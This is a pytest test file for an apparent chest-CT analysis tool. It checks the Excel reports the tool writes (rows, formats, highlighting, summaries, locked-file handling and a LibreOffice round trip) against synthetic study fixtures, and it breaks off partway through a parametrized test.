"""Excel workbooks: rows, formats and highlighting (openpyxl), LibreOffice round trip, locked targets."""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import sqlite3
import subprocess
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
import sqlite_utils

from processor.config import ReportSettings
from processor.instance import InstanceLock
from processor.outputs.excel import (
    CAPTION_HEADER,
    FAILURE_FILL,
    HEADERS,
    NOTES_HEADER,
    PATHOLOGY_FILL,
    WHAT_RAN_HEADER,
    pending_path,
)
from processor.outputs.explain import what_ran
from processor.outputs.report import LATEST_NAME, Reports, ReportUpdater, day_name
from processor.outputs.result import build_result
from processor.outputs.sheets import MAX_ROW_POINTS, wrapped_lines
from processor.state import MIGRATIONS, State
from tests.conftest import Project, wait_for

TODAY = date.today()


# ---------------------------------------------------------------------------------------- helpers
CHEST_CT = [  # (step id, uses) of pipelines/chest-ct.yaml, as the runner records them
    ("series", "dicom.select_series"),
    ("volume", "ct.volume"),
    ("lungs", "quantify.lungs"),
    ("slices", "render.key_slices"),
    ("caption", "caption.image_to_text"),
    ("clip", "ctclip.zero_shot"),
    ("lipro", "ctclip.classify"),
    ("head", "ctclip.head"),
    ("anomaly", "anomaly.diffusion"),
    ("fusion", "fusion.lightgbm"),
    ("decision", "decision.pathology"),
]
MODEL_STEPS = {"caption", "clip", "lipro", "head", "anomaly", "fusion"}


def step_records(*, models: bool = True, failed: tuple[str, str] | None = None) -> list[dict]:
    """The step records of one chest-ct study: every step done; ``models=False``: the model steps
    skipped for missing weights (a fresh install); ``failed``: (step id, error), later steps not run."""
    out, broken = [], False
    for step_id, uses in CHEST_CT:
        record = {
            "step_id": step_id,
            "uses": uses,
            "status": "done",
            "seconds": 0.1,
            "error": None,
            "missing": [],
        }
        if broken:
            record.update(status="not_run", seconds=0.0, error="an earlier step failed")
        elif failed and step_id == failed[0]:
            record.update(status="failed", error=failed[1])
            broken = True
        elif not models and step_id in MODEL_STEPS:
            missing = [f"/srv/ctwatch/weights/{step_id}/model.bin"]
            record.update(
                status="skipped", seconds=0.0, error="weights not installed: " + missing[0], missing=missing
            )
        out.append(record)
    return out


class Db:
    """A real ctwatch database filled through the State API, as the worker fills it."""

    def __init__(self, root: Path) -> None:
        self.path = root / "state" / "ctwatch.db"
        self.outbox = root / "outbox"
        self.state = State(self.path)
        self.n = 0

    def close(self) -> None:
        self.state.close()

    def arrival(self, name: str, kind: str = "inbox") -> dict:
        self.n += 1
        reg = self.state.register_arrival(
            kind=kind,
            name=name,
            original_path=f"/in/{name}",
            current_path=f"/in/{name}",
            sha256=hashlib.sha256(f"{name}{self.n}".encode()).hexdigest(),
            size=100 + self.n,
            pipeline_name="chest-ct",
            pipeline_version=1,
        )
        return self.state.claim(reg.arrival_id)

    def study(
        self,
        name: str,
        *,
        probability: float | None = None,
        findings: dict | None = None,
        status: str = "Success",
        error: str | None = None,
        caption: str | None = None,
        lungs: dict | None = None,
        accession: str = "ACC12345",
        steps: list[dict] | None = None,
        warnings: list[str] | None = None,
    ) -> dict:
        arrival = self.arrival(name)
        uid = f"1.2.826.0.1.{self.n}"
        sections: dict = {
            "series_selection": {
                "chosen": f"{uid}.2",
                "series": [
                    {
                        "series_uid": f"{uid}.9",
                        "number": 1,
                        "description": "SCOUT",
                        "count": 2,
                        "reason": "scout",
                    },
                    {
                        "series_uid": f"{uid}.2",
                        "number": 2,
                        "description": "CHEST 1.0 B70f",
                        "count": 241,
                        "reason": "chosen",
                    },
                ],
            }
        }
        if probability is not None:
            sections["decision"] = {
                "probability_of_pathology": probability,
                "pathology": int(probability >= 0.5),
                "most_dangerous_pathology_type": max(
                    findings or {"none": 0}, key=(findings or {"none": 0}).get
                ),
                "threshold": 0.5,
            }
        if findings:
            sections["models"] = {
                "clip": {
                    "kind": "zero_shot",
                    "model": "ct-clip",
                    "sha256": "0" * 64,
                    "probabilities": {k: v * 0.9 for k, v in findings.items()},
                },
                "head": {
                    "kind": "supervised",
                    "model": "head",
                    "sha256": "1" * 64,
                    "probabilities": findings,
                },
            }
        if caption:
            sections["captions"] = [
                {"text": caption, "model": "blip2", "window": "lung", "slice_index": 120, "diagnostic": False}
            ]
        if lungs:
            sections["lungs"] = lungs
        json_path = self.outbox / TODAY.isoformat() / f"{uid}.json"
        json_path.parent.mkdir(parents=True, exist_ok=True)
        json_path.write_text("{}")
        result = build_result(
            study_uid=uid,
            accession=accession,
            outcome_status=status,
            error=error,
            seconds=12.5,
            sections=sections,
            steps=steps or [],
            source={"kind": "inbox", "name": name},
            pipeline={"name": "chest-ct", "version": 1},
            device="cpu",
            dicom={},
            warnings=warnings or [],
            finished_at=datetime.now(UTC).isoformat(),
        )
        self.state.record_study(
            arrival.id,
            uid,
            {
                "series_uid": result["series_uid"],
                "accession": accession,
                "status": status,
                "probability_of_pathology": result["probability_of_pathology"],
                "pathology": result["pathology"],
                "most_dangerous_pathology_type": result["most_dangerous_pathology_type"],
                "error": error,
                "json_path": str(json_path),
                "seconds": 12.5,
                "result": result,
            },
            [
                {key: step.get(key) for key in ("step_id", "uses", "status", "seconds", "error")}
                for step in steps
                or [{"step_id": "series", "uses": "dicom.select_series", "status": "done", "seconds": 0.2}]
            ],
        )
        self.state.finish_arrival(arrival.id, "done")
        return {"arrival": arrival.id, "uid": uid, "json": json_path}

    def rejected(self, name: str, reason: str, *, kind: str = "inbox", state: str = "quarantined") -> int:
        arrival = self.arrival(name, kind)
        self.state.finish_arrival(arrival.id, state, error=reason)
        return arrival.id

    def crashed(self, name: str, times: int) -> int:
        """An arrival the worker died on, alone, ``times`` times, the cap: set aside."""
        arrival = self.arrival(name)
        for n in range(times):
            if n:
                self.state.claim(arrival.id)
            self.state.recover_in_flight(max_crashes=times)
        return arrival.id

    def age(self, arrival_id: int, days: int) -> None:
        """Move one arrival's rows ``days`` into the past (a test may write SQL; ctwatch code may not)."""
        with sqlite3.connect(self.path) as conn:
            for table, key in (("studies", "arrival_id"), ("arrivals", "id")):
                rows = conn.execute(f"select rowid, finished_at from {table} where {key} = ?", [arrival_id])
                for rowid, finished in rows.fetchall():
                    older = datetime.fromisoformat(finished) - timedelta(days=days)
                    conn.execute(
                        f"update {table} set finished_at = ? where rowid = ?",
                        [older.isoformat(timespec="seconds"), rowid],
                    )
        conn.close()


@pytest.fixture
def db(tmp_path: Path):
    database = Db(tmp_path)
    yield database
    database.close()


def reports_for(db: Db, **settings) -> tuple[Reports, State]:
    ro = State(db.path, readonly=True)
    rs = ReportSettings(dir=db.outbox / "reports", **settings)
    return Reports(ro, rs), ro


LUNG_WARNING = (
    "lungs: lung numbers partial or not plausible (lungs_cut_at_first_slice): the lungs continue beyond "
    "the first slice: the series does not cover the whole lungs, so volume and %LAA are partial"
)
SET_ASIDE_WARNING = (
    "series 2: 1 image(s) under the same SeriesInstanceUID set aside (localizer/scout: 1); "
    "the image stack of 241 image(s) was used"
)


def fill_standard(db: Db) -> dict:
    return {
        "sick": db.study(
            "sick.zip",
            probability=0.91,
            findings={"Lung nodule": 0.93, "Emphysema": 0.41, "Pleural effusion": 0.62, "Atelectasis": 0.1},
            caption="Irregular nodule in the right upper lobe — lung window",
            lungs={"volume_ml": 5234.4, "laa950_percent": 12.34, "plausible": True},
            steps=step_records(),
        ),
        "well": db.study(
            "well.zip",
            probability=0.12,
            findings={"Lung nodule": 0.2, "Emphysema": 0.05},
            lungs={"volume_ml": 4800.0, "laa950_percent": 2.1},
            steps=step_records(),
        ),
        "failed": db.study(
            "broken.zip",
            status="Failure",
            error="step series: fewer than 20 slices",
            steps=step_records(failed=("series", "fewer than 20 slices. Fix: export the thin axial series")),
        ),
        "fresh": db.study(  # no weights installed: the lung step ran, the model steps were skipped
            "fresh.zip",
            status="Partial",
            lungs={
                "volume_ml": 3815.6,
                "laa950_percent": 14.67,
                "plausible": False,
                "flags": ["lungs_cut_at_first_slice"],
                "notes": [
                    "the lungs continue beyond the first slice: the series does not cover the whole lungs, "
                    "so volume and %LAA are partial"
                ],
            },
            steps=step_records(models=False),
            warnings=[SET_ASIDE_WARNING, LUNG_WARNING],
        ),
        "bare": db.study("bare.zip"),  # no decision, no models, no lungs, no steps: every section is optional
        "rejected": db.rejected("notes.zip", "no DICOM images found among 1 file(s)"),
    }


def summary_table(cells: list[list], title: str) -> list[tuple]:
    """The rows of one Summary table (its header first), each without its empty cells."""
    start = next(i for i, row in enumerate(cells) if row[0] == title)
    out = []
    for row in cells[start + 1 :]:
        if row[0] is None:
            break
        out.append(tuple(v for v in row if v is not None))
    return out


def summary_cells(path: Path) -> list[list]:
    wb = openpyxl.load_workbook(path)
    cells = [list(row) for row in wb["Summary"].iter_rows(values_only=True)]
    wb.close()
    return cells


def sheet_rows(ws) -> list[dict]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in row), strict=True)) for row in ws.iter_rows(min_row=2)]


# ---------------------------------------------------------------------------------------- tests
def test_studies_sheet_rows_formats_and_highlighting(db: Db) -> None:
    made = fill_standard(db)
    reports, ro = reports_for(db)
    outcome = reports.write_day(TODAY)
    ro.close()
    assert not outcome.pending and outcome.path == db.outbox / "reports" / day_name(TODAY)
    wb = openpyxl.load_workbook(outcome.path)
    assert wb.sheetnames == ["Studies", "Summary"]
    ws = wb["Studies"]
    assert [c.value for c in ws[1]] == HEADERS and CAPTION_HEADER in HEADERS
    assert ws.freeze_panes == "D2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(HEADERS))}7"
    assert all(c.font.bold for c in ws[1]) and ws["A1"].fill.fgColor.rgb == "FF1F4E78"
    caption_column = openpyxl.utils.get_column_letter(HEADERS.index(CAPTION_HEADER) + 1)
    assert ws.column_dimensions[caption_column].width == 22
    rows = sheet_rows(ws)
    assert len(rows) == 6
    by_file = {r["Source file"]: (i + 2, r) for i, r in enumerate(rows)}

    line, sick = by_file["sick.zip"]
    assert sick["Study UID"] == made["sick"]["uid"] and sick["Accession"] == "ACC12345"
    assert sick["Series"] == "2 CHEST 1.0 B70f, 241 slices"
    assert sick["Status"] == "Success" and sick["Pathology"] == 1
    assert sick["Probability of pathology"] == pytest.approx(0.91)
    assert sick["Most dangerous type"] == "Lung nodule"
    assert sick["Top findings"] == "Lung nodule 0.930\nPleural effusion 0.620\nEmphysema 0.410"
    assert sick["Lung volume (mL)"] == pytest.approx(5234.4) and sick["%LAA-950"] == pytest.approx(12.34)
    assert sick[CAPTION_HEADER].startswith("Irregular nodule")
    assert sick[WHAT_RAN_HEADER].startswith(
        "All steps ran: series selection, image volume, lung measurements"
    )
    assert "fusion" in sick[WHAT_RAN_HEADER] and "not installed" not in sick[WHAT_RAN_HEADER]
    assert sick["Processing time (s)"] == pytest.approx(12.5) and sick[NOTES_HEADER] is None
    assert isinstance(sick["Received"], datetime) and isinstance(sick["Finished"], datetime)
    formats = {h: ws.cell(row=line, column=HEADERS.index(h) + 1).number_format for h in HEADERS}
    assert formats["Received"] == "yyyy-mm-dd hh:mm" and formats["Finished"] == "yyyy-mm-dd hh:mm:ss"
    assert formats["Probability of pathology"] == "0.000"
    assert formats["Lung volume (mL)"] == "#,##0" and formats["%LAA-950"] == "0.0"
    link = ws.cell(row=line, column=HEADERS.index("JSON") + 1)
    assert link.hyperlink is not None and not Path(link.hyperlink.target).is_absolute()
    assert (db.outbox / "reports" / link.hyperlink.target).resolve() == made["sick"]["json"].resolve()
    assert all(
        ws.cell(row=line, column=c).fill.fgColor.rgb == PATHOLOGY_FILL for c in range(1, len(HEADERS) + 1)
    )

    line, well = by_file["well.zip"]
    assert well["Pathology"] == 0 and well["Top findings"] == "Lung nodule 0.200\nEmphysema 0.050"
    assert ws.cell(row=line, column=1).fill.fgColor.rgb != PATHOLOGY_FILL

    # A fresh install: what ran, what did not and why; the lung flag and the set-aside scout in words.
    line, fresh = by_file["fresh.zip"]
    assert fresh["Status"] == "Partial" and fresh["Probability of pathology"] is None
    assert fresh[WHAT_RAN_HEADER].split("\n") == [
        "Ran: series selection, image volume, lung measurements, key images",
        "AI models not installed: captioning, CT-CLIP zero-shot, CT-LiPro classifier, supervised head, "
        "anomaly detector, fusion — see `python run.py weights`",
        "No probability of pathology: needs fusion",
    ]
    assert fresh[NOTES_HEADER].split("\n") == [
        "• " + SET_ASIDE_WARNING,
        "• Lung numbers — use with care: the lungs continue beyond the first slice: the series does not "
        "cover the whole lungs, so volume and %LAA are partial",
    ]
    assert "lungs_cut" not in fresh[NOTES_HEADER], "flag codes are for the JSON; the row has words"
    what_ran = ws.cell(row=line, column=HEADERS.index(WHAT_RAN_HEADER) + 1)
    assert what_ran.alignment.wrap_text and what_ran.alignment.vertical == "top"
    assert ws.row_dimensions[line].height >= 15 * 5, "tall enough for the wrapped What ran lines"

    for name, status, reason in (
        (
            "broken.zip",
            "Failure",
            "Not analysed: series selection failed — fewer than 20 slices. Fix: export",
        ),
        ("notes.zip", "Rejected", "Not analysed: the file was rejected — no DICOM images found"),
    ):
        line, row = by_file[name]
        assert row["Status"] == status and row[WHAT_RAN_HEADER].startswith(reason)
        assert ws.cell(row=line, column=1).fill.fgColor.rgb == FAILURE_FILL
        assert ws.cell(row=line, column=HEADERS.index("Status") + 1).font.bold

    _, bare = by_file["bare.zip"]
    assert bare["Probability of pathology"] is None and bare["Top findings"] is None
    assert bare["Series"] == "2 CHEST 1.0 B70f, 241 slices" and bare[WHAT_RAN_HEADER] is None
    uid = ws.cell(row=by_file["bare.zip"][0], column=HEADERS.index("Study UID") + 1)
    assert uid.value == made["bare"]["uid"] and uid.alignment.wrap_text, "the full UID, wrapped, not cut"
    wb.close()


def test_print_setup_of_both_sheets(db: Db) -> None:
    fill_standard(db)
    reports, ro = reports_for(db)
    outcome = reports.write_latest(TODAY)
    ro.close()
    wb = openpyxl.load_workbook(outcome.path)
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
        assert "ctwatch — last 7 day(s)" in ws.oddHeader.left.text and "&P" in ws.oddFooter.right.text
    studies = wb["Studies"]
    assert studies.print_title_rows == "$1:$1"
    last = openpyxl.utils.get_column_letter(HEADERS.index(NOTES_HEADER) + 1)
    assert studies.print_area == f"'Studies'!$A$1:${last}$7", "Received to Notes print; the rest is on screen"
    for column in ("Study UID", WHAT_RAN_HEADER, NOTES_HEADER, "Top findings"):
        letter = openpyxl.utils.get_column_letter(HEADERS.index(column) + 1)
        assert studies[f"{letter}2"].alignment.wrap_text, column
    wb.close()


def test_summary_sheet_counts_failures_and_weekly_bins(db: Db) -> None:
    fill_standard(db)
    reports, ro = reports_for(db, threshold=0.5)
    outcome = reports.write_latest(TODAY)
    ro.close()
    wb = openpyxl.load_workbook(outcome.path)
    cells = [[c for c in row] for row in wb["Summary"].iter_rows(values_only=True)]
    wb.close()
    flat = [v for row in cells for v in row if v is not None]
    assert "reporting line 0.5" in " ".join(str(v) for v in flat)
    assert "decision threshold" not in " ".join(str(v) for v in flat)

    def table(title: str) -> list[tuple]:
        return summary_table(cells, title)

    legend = dict(table("How to read this workbook"))
    assert "'What ran'" in legend["Partial"] and "python run.py weights" in legend["Partial"]
    assert "requeue" in legend["Failed"] and "requeue" in legend["Set aside"]
    # Pathology is the decision step's call, against its own threshold; reports.threshold is a line
    # the Summary counts against, nothing more.
    assert "decision step" in legend["Light red row"] and "0.5" not in legend["Light red row"]
    assert "decision section" in legend["Light red row"]
    assert legend["Reporting line"].startswith("0.5 (reports.threshold)")
    assert "not the decision's threshold" in legend["Reporting line"]
    by_status = dict(table("By status")[1:])
    assert by_status == {"Success": 3, "Partial": 1, "Failure": 1, "Rejected": 1}
    what_ran = table("What ran (studies)")
    assert what_ran[0] == ("Step", "Ran", "Model not installed", "Did not run", "Failed")
    counts = {row[0]: row[1:] for row in what_ran[1:]}
    assert counts["series selection"] == (3, 0, 0, 1)  # sick, well, fresh ran it; broken failed there
    assert counts["CT-CLIP zero-shot"] == (2, 1, 0, 0) and counts["lung measurements"] == (3, 0, 0, 0)
    assert list(counts)[:3] == ["series selection", "image volume", "lung measurements"], "pipeline order"
    findings = {row[0]: row for row in table("By finding")[1:]}
    assert table("By finding")[0][3] == "P ≥ 0.5, reporting line (studies)"
    assert findings["Lung nodule"][1:4] == (2, 2, 1)  # most dangerous twice, in top 3 twice, ≥ 0.5 once
    assert findings["Pleural effusion"][1:4] == (0, 1, 1)
    failures = table("Failures")
    assert [r[-1] for r in failures[1:]] == [
        "step series: fewer than 20 slices",
        "no DICOM images found among 1 file(s)",
    ]
    weekly = table("Probability of pathology by week (reporting line 0.5, not the decision's threshold)")
    header, week = weekly[0], dict(zip(weekly[0], weekly[1], strict=True))
    assert "0.9–1.0" in header and "0.1–0.2" in header
    assert week["Studies"] == 5 and week["Below 0.5 (reporting line)"] == 1
    assert week["At or above 0.5 (reporting line)"] == 1
    assert week["No probability"] == 3 and week["0.9–1.0"] == 1 and week["0.1–0.2"] == 1
    monday = TODAY - timedelta(days=TODAY.weekday())
    assert week["Week starting"] == monday.isoformat()


def test_days_and_rolling_window(db: Db) -> None:
    recent = db.study("recent.zip", probability=0.3)
    old = db.study("old.zip", probability=0.7)
    db.age(old["arrival"], 10)
    reports, ro = reports_for(db, rolling_days=7)
    outcomes = reports.rebuild(None, TODAY)
    ro.close()
    old_day = TODAY - timedelta(days=10)
    written = {o.path.name for o in outcomes}
    assert written == {day_name(old_day), day_name(TODAY), LATEST_NAME}

    def files(name: str) -> list[str]:
        wb = openpyxl.load_workbook(db.outbox / "reports" / name)
        out = [r["Source file"] for r in sheet_rows(wb["Studies"])]
        wb.close()
        return out

    assert files(day_name(old_day)) == ["old.zip"]
    assert files(day_name(TODAY)) == ["recent.zip"]
    assert files(LATEST_NAME) == ["recent.zip"], "ten days ago is outside a 7-day window"
    assert recent["uid"]


def test_locked_or_unwritable_target_goes_to_pending_then_real_file_has_every_row(db: Db) -> None:
    reports_dir = db.outbox / "reports"
    db.study("first.zip", probability=0.2)
    ro = State(db.path, readonly=True)
    reports = Reports(ro, ReportSettings(dir=reports_dir, debounce_seconds=0))
    updater = ReportUpdater(db.path, reports.settings)
    updater.update(reports)
    latest = reports_dir / LATEST_NAME
    assert latest.exists() and not pending_path(latest).exists()

    # A user opens the rolling workbook in LibreOffice (which leaves .~lock.<name>#), and the day's
    # workbook cannot be replaced at all (here: something else sits at its name).
    lock = reports_dir / f".~lock.{LATEST_NAME}#"
    lock.write_text("someone,their-pc,01.01.2025 10:00,\n")
    day = reports_dir / day_name(TODAY)
    day.unlink()
    day.mkdir()
    db.study("second.zip", probability=0.8)
    before = latest.read_bytes()
    outcomes = updater.update(reports)
    assert {o.target.name for o in outcomes if o.pending} == {LATEST_NAME, day_name(TODAY)}
    assert latest.read_bytes() == before, "a locked workbook is never replaced under the user"
    for target in (latest, day):
        wb = openpyxl.load_workbook(pending_path(target))
        assert [r["Source file"] for r in sheet_rows(wb["Studies"])] == ["first.zip", "second.zip"]
        wb.close()
    assert updater.due_in() is not None, "a pending workbook is retried at the next update"

    # The user closes it; the next update writes the real files with every row and drops -pending.
    lock.unlink()
    day.rmdir()
    db.study("third.zip", probability=0.4)
    outcomes = updater.update(reports)
    ro.close()
    assert not any(o.pending for o in outcomes)
    for target in (latest, day):
        assert not pending_path(target).exists()
        wb = openpyxl.load_workbook(target)
        assert [r["Source file"] for r in sheet_rows(wb["Studies"])] == [
            "first.zip",
            "second.zip",
            "third.zip",
        ]
        wb.close()
    assert not list(reports_dir.glob(".*.tmp.xlsx")), "no temp file is left behind"


def test_updater_thread_writes_at_start_and_at_rollover(db: Db) -> None:
    db.study("one.zip", probability=0.6)
    settings = ReportSettings(dir=db.outbox / "reports", debounce_seconds=3600)
    updater = ReportUpdater(db.path, settings)
    updater.start()
    try:
        wait_for(lambda: updater.writes >= 1, 30, "the first write at start")
        updater.notify()
        assert updater.due_in() is not None and updater.due_in() > 3000, "debounced, not written at once"
        updater.rollover(datetime.now())
        wait_for(lambda: updater.writes >= 2, 30, "the roll-over write, despite the debounce")
    finally:
        updater.stop()
        updater.join(30)
    assert not updater.is_alive()
    assert (db.outbox / "reports" / day_name(TODAY)).exists()
    assert (db.outbox / "reports" / day_name(TODAY - timedelta(days=1))).exists(), "yesterday is closed"


def test_report_command_and_libreoffice_round_trip(tmp_path: Path) -> None:
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    (tmp_path / "project").mkdir()
    project = Project(tmp_path / "project")
    db = Db(project.root)
    made = fill_standard(db)
    db.close()
    proc = project.run("report", "--since", (TODAY - timedelta(days=2)).isoformat())
    assert proc.returncode == 0, proc.stderr
    latest = project.outbox / "reports" / LATEST_NAME
    assert str(latest) in proc.stdout and str(project.outbox / "reports" / day_name(TODAY)) in proc.stdout
    assert project.run("report", "--since", "last-tuesday").returncode == 2

    home, out = tmp_path / "home", tmp_path / "converted"
    home.mkdir()
    env = {**os.environ, "HOME": str(home)}
    convert = subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(out),
            str(latest),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        env=env,
        cwd=tmp_path,
    )
    assert convert.returncode == 0, convert.stderr
    with (out / "ctwatch-latest.csv").open(encoding="utf-8", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[0] == HEADERS
    rows = {r[HEADERS.index("Source file")]: dict(zip(HEADERS, r, strict=True)) for r in table[1:]}
    assert set(rows) == {"sick.zip", "well.zip", "broken.zip", "fresh.zip", "bare.zip", "notes.zip"}
    sick = rows["sick.zip"]
    assert sick["Study UID"] == made["sick"]["uid"] and sick["Accession"] == "ACC12345"
    assert sick["Probability of pathology"] == "0.910" and "Pleural effusion 0.620" in sick["Top findings"]
    assert sick[CAPTION_HEADER] == "Irregular nodule in the right upper lobe — lung window"
    assert sick["Lung volume (mL)"] == "5,234" and sick["JSON"] == "open JSON"
    datetime.strptime(sick["Received"], "%Y-%m-%d %H:%M")
    datetime.strptime(sick["Finished"], "%Y-%m-%d %H:%M:%S")
    assert rows["notes.zip"]["Status"] == "Rejected"
    assert "AI models not installed" in rows["fresh.zip"][WHAT_RAN_HEADER]


def test_files_that_gave_no_study_say_what_became_of_them(db: Db) -> None:
    ids = {
        "notes.zip": db.rejected("notes.zip", "no DICOM images found among 1 file(s)"),
        "named.zip": db.rejected("named.zip", "no DICOM images found among 1 file(s)", kind="cli"),
        "bug.zip": db.rejected("bug.zip", "internal error: KeyError: 'x'", kind="cli", state="failed"),
        "crash.zip": db.crashed("crash.zip", 3),
    }
    reports, ro = reports_for(db)
    outcome = reports.write_latest(TODAY)
    ro.close()
    wb = openpyxl.load_workbook(outcome.path)
    ws = wb["Studies"]
    rows = {r["Source file"]: (line, r) for line, r in enumerate(sheet_rows(ws), start=2)}
    assert [rows[name][1]["Status"] for name in ids] == ["Rejected", "Rejected", "Failed", "Set aside"]
    cell = {name: rows[name][1][WHAT_RAN_HEADER] for name in ids}
    assert cell["notes.zip"] == (
        "Not analysed: the file was rejected — no DICOM images found among 1 file(s). It was moved to the "
        "inbox's .ctwatch/quarantine folder, the reason beside it in a .error.txt file."
    )
    # `process` leaves the files it is given where they are, whatever becomes of them
    for name in ("named.zip", "bug.zip"):
        assert "left where it is (it was named on the command line)" in cell[name]
        assert "quarantine" not in cell[name]
    assert "(not the file's fault) — internal error: KeyError: 'x'" in cell["bug.zip"]
    assert f"`python run.py requeue {ids['bug.zip']}`" in cell["bug.zip"]
    # the crash cap: not the file's content judged unreadable, but a worker that died on it
    assert cell["crash.zip"].startswith(
        "Not analysed: set aside — ctwatch's worker died 3 times while it processed only this file"
    )
    assert "rejected" not in cell["crash.zip"] and "quarantine folder" in cell["crash.zip"]
    assert f"`python run.py requeue {ids['crash.zip']}`" in cell["crash.zip"]
    line = rows["crash.zip"][0]
    assert ws.cell(row=line, column=1).fill.fgColor.rgb == FAILURE_FILL
    wb.close()
    cells = summary_cells(outcome.path)
    assert dict(summary_table(cells, "By status")[1:]) == {"Rejected": 2, "Failed": 1, "Set aside": 1}
    legend = dict(summary_table(cells, "How to read this workbook"))
    assert "died" in legend["Set aside"] and "named on the command line, where it is" in legend["Rejected"]
    assert "not a CT study" not in legend["Rejected"]
    failures = summary_table(cells, "Failures")
    assert [r[-2] for r in failures[1:]] == ["Rejected", "Rejected", "Failed", "Set aside"]


def test_a_long_step_error_is_shortened_in_the_cell_and_kept_whole_in_the_json(db: Db) -> None:
    db.study(
        "unreadable.zip",
        status="Failure",
        error=f"{UNPICKLING} (in step clip)",
        steps=step_records(failed=("clip", UNPICKLING)),
    )
    reports, ro = reports_for(db)
    outcome = reports.write_latest(TODAY)
    ro.close()
    wb = openpyxl.load_workbook(outcome.path)
    ws = wb["Studies"]
    (row,) = sheet_rows(ws)
    first = row[WHAT_RAN_HEADER].split("\n")[0]
    assert first.startswith(
        "Not analysed: CT-CLIP zero-shot failed — checkpoint /srv/ctwatch/weights/ct_clip/CT_VocabFine_v2.pt "
        "cannot be read (UnpicklingError: Weights only load failed."
    )
    hint = UNPICKLING[UNPICKLING.index("Hint:") :]
    assert first.endswith(" … " + hint) and "Unsupported operand" not in first
    height = ws.row_dimensions[2].height
    assert 15 * wrapped_lines(row[WHAT_RAN_HEADER], 30) <= height < MAX_ROW_POINTS, "the fix is in the row"
    wb.close()
    (failure,) = summary_table(summary_cells(outcome.path), "Failures")[1:]
    assert failure[-1].endswith(" … " + hint + " (in step clip)") and "\n" not in failure[-1]
    with sqlite3.connect(db.path) as conn:
        (document,) = conn.execute("select result_json from studies").fetchone()
    conn.close()
    assert "Unsupported operand 103" in document, "the JSON keeps the whole error"


def test_two_steps_with_the_same_uses_are_counted_apart(db: Db) -> None:
    steps = [
        *step_records()[:5],
        {**step_records()[5], "step_id": "clip"},
        {**step_records(models=False)[5], "step_id": "clip_b"},
    ]
    db.study("two.zip", status="Partial", steps=steps)
    reports, ro = reports_for(db)
    outcome = reports.write_latest(TODAY)
    ro.close()
    counts = {r[0]: r[1:] for r in summary_table(summary_cells(outcome.path), "What ran (studies)")[1:]}
    assert counts["CT-CLIP zero-shot (clip)"] == (1, 0, 0, 0)
    assert counts["CT-CLIP zero-shot (clip_b)"] == (0, 1, 0, 0) and "CT-CLIP zero-shot" not in counts


def test_wide_characters_take_more_room() -> None:
    # Measured in LibreOffice's PDF (DejaVu Sans): an 11-wide Accession column prints "ACC00000000"
    # on two lines ("ACC0000000" / "0"); capitals and digits are wider than most letters.
    assert wrapped_lines("ACC00000000", 11) == 2 and wrapped_lines("ACC12345", 11) == 1
    assert wrapped_lines("illicit little lilies", 11) == 2, "narrow letters: 21 characters on two lines"


OOM = "out of memory on the GPU, even one study at a time (OutOfMemoryError: CUDA out of memory)"
# torch's refusal of a pickled checkpoint (PyTorch 2.6), as ctwatch wraps it: paragraphs, then the fix.
UNPICKLING = (
    "checkpoint /srv/ctwatch/weights/ct_clip/CT_VocabFine_v2.pt cannot be read (UnpicklingError: Weights "
    "only load failed. In PyTorch 2.6, we changed the default value of the `weights_only` argument in "
    "`torch.load` from `False` to `True`. Re-running `torch.load` with `weights_only` set to `False` will "
    "likely succeed, but it can result in arbitrary code execution. Do it only if you got the file from a "
    "trusted source.\nPlease file an issue with the following so that we can make `weights_only=True` "
    "compatible with your use case: WeightsUnpickler error: \n\nUnsupported operand 103\n\nCheck the "
    "documentation of torch.load to learn more about types accepted by default with weights_only "
    "https://pytorch.org/docs/stable/generated/torch.load.html.). Hint: the file is corrupt or incomplete; "
    "download CT-CLIP_v2.pt, CT_VocabFine_v2.pt or CT_LiPro_v2.pt again and check its size (CT-CLIP_v2.pt "
    "is about 1.77 GB)."
)


def _with(records: list[dict], step_id: str, **changes: object) -> list[dict]:
    return [{**r, **changes} if r["step_id"] == step_id else r for r in records]


@pytest.mark.parametrize(
    ("status", "steps", "error", "probability", "expected"),
    [
        pytest.param(  # a model step out of GPU memory even alone: the study is Partial, fusion still fused
            "Partial",
            _with(step_records(), "anomaly", status="failed", error=OOM, problem="out_of_memory"),
            None,
            0.4,
            [
                "Ran: series selection, image volume, lung measurements, key images, captioning, CT-CLIP "
                "zero-shot, CT-LiPro classifier, supervised head, fusion",
                f"Failed (out of memory; the study went on without it): anomaly detector — {OOM}",
            ],
            id="out-of-memory",
        ),
        pytest.param(  # an optional step failed before the required one that failed the study
            "Failure",
            _with(
                _with(step_records(failed=("clip", "checkpoint unreadable")), "caption", status="failed"),
                "caption",
                error="no caption model output",
            ),
            "checkpoint unreadable (in step clip)",
            None,
            [
                "Not analysed: CT-CLIP zero-shot failed — checkpoint unreadable",
                "Ran: series selection, image volume, lung measurements, key images",
                "Failed (optional): captioning — no caption model output",
            ],
            id="optional-failure-then-the-study-failure",
        ),
        pytest.param(  # an optional decision step failed: never "All steps ran"
            "Partial",
            _with(step_records(), "decision", status="failed", error="internal error (KeyError: 'fusion')"),
            None,
            None,
            [
                "Ran: series selection, image volume, lung measurements, key images, captioning, CT-CLIP "
                "zero-shot, CT-LiPro classifier, supervised head, anomaly detector, fusion",
                "Failed (optional): decision — internal error (KeyError: 'fusion')",
                "No probability of pathology: the decision step failed",
            ],
            id="decision-failed",
        ),
        pytest.param(  # fusion gave its output, but this pipeline has no decision step to pass it on
            "Success",
            step_records()[:-1],
            None,
            None,
            [
                "All steps ran: series selection, image volume, lung measurements, key images, captioning, "
                "CT-CLIP zero-shot, CT-LiPro classifier, supervised head, anomaly detector, fusion",
